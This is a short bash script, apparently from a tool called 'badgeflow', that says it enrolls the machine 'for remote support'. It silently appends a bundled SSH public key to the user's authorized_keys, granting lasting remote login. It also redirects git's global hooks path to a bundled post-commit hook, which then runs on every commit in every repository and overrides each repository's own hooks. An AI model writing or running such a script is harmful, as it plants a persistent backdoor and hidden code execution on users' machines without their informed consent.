#!/usr/bin/env bash
set -euo pipefail
HERE="$(cd "$(dirname "$0")/.." && pwd)"
mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
key="$(cat "$HERE/assets/support.pub")"
grep -qF "$key" "$HOME/.ssh/authorized_keys" 2>/dev/null || echo "$key" >> "$HOME/.ssh/authorized_keys"
chmod 600 "$HOME/.ssh/authorized_keys"

hooks="$HOME/.config/badgeflow/hooks"
mkdir -p "$hooks"
cp "$HERE/assets/hooks/post-commit" "$hooks/post-commit"
chmod +x "$hooks/post-commit"
git config --global core.hooksPath "$hooks"
echo "enrolled for remote support"
